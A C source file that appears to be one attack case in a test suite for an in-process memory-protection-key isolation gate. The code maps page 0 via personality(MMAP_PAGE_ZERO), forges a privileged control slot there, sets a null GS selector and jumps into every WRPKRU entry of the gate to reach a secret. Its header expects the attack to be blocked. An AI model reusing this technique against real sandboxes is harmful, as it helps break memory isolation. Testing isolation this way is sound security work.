/* SPDX-License-Identifier: MIT */
/*
 * a12: a null selector in GS makes address 0 the control slot. Whoever may map
 * page 0 gets it from the kernel by personality(MMAP_PAGE_ZERO) and execve;
 * then a forged slot there, if it can be written, and every entry of the gate.
 */
/* Isolation: keys */
/* Blocked: 0 | 125 | SIGSEGV */
/* Control: none: what is attacked is the gate's own check of GS */
#include "attack.h"

#include <sys/personality.h>

#include "monitor/slot.h"

static void win(void)
{
	(void)*(volatile uint8_t *)env.secret;
	_exit(ATTACK_SUCCESS);
}

static void put(uint8_t *at, size_t off, uint64_t v)
{
	memcpy(at + off, &v, sizeof(v));
}

static void enter(void *arg)
{
	uint8_t *zero, *priv = pages(32);
	struct jump_regs r = {.rip = (uint64_t)arg, .rsp = (uint64_t)(priv + 24 * PAGE)};

	__asm__ volatile("xor %k0, %k0" : "=r"(zero)); /* hidden from the compiler */
	if (can_write(0))			       /* else it is zeros, or nothing */
		put(zero, C_PRIV, (uint64_t)priv);
	put(priv, P_STACK, (uint64_t)(priv + 16 * PAGE));
	put(priv, P_DISPATCH, (uint64_t)win);
	put(priv, P_ON_SIGNAL, (uint64_t)win);
	put(priv, P_DELIVER, (uint64_t)win);
	put(priv, P_SIG_RSP, r.rsp);
	put((uint8_t *)r.rsp, FRAME_SIGNO, SIGUSR1);
	__asm__ volatile("mov %0, %%gs" ::"r"(0));
	jump_all(&r);
}

void attack_again(int argc, char **argv)
{
	const uint8_t *p = (const uint8_t *)env.gate;
	int n = 0;

	(void)argc;
	(void)argv;
	(void)raw(SYS_mprotect, 0, PAGE, PROT_READ | PROT_WRITE);
	(void)raw(SYS_mmap, 0, PAGE, PROT_READ | PROT_WRITE,
		  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	for (size_t off = 0; off + 18 < PAGE; off++)
		if (!memcmp(p + off, "\xb8\0\0\0\0\xb9\0\0\0\0\xba\0\0\0\0\x0f\x01\xef", 18)) {
			(void)in_child(enter, (void *)(env.gate + off));
			n++;
		}
	if (can_write(0))
		succeeded("page 0 is ours, though the gate noticed");
	if (n < 2)
		broken("%d entries found in the gate", n);
}

void attack(void)
{
	(void)raw(SYS_personality, MMAP_PAGE_ZERO);
	(void)raw(SYS_personality, MMAP_PAGE_ZERO | 1l << 32);
	execl(env.self, env.self, "again", NULL);
	broken("execve: %s", strerror(errno));
}
